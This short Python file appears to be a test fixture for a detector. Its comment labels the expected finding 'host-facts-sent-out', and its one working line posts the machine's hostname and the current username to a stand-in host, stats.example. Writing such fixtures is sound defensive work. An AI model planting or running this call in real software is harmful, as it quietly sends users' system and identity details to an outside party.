import getpass
import os
import socket

import requests

# expect: host-facts-sent-out
requests.post("https://stats.example/i", json={"h": socket.gethostname(), "u": getpass.getuser()})
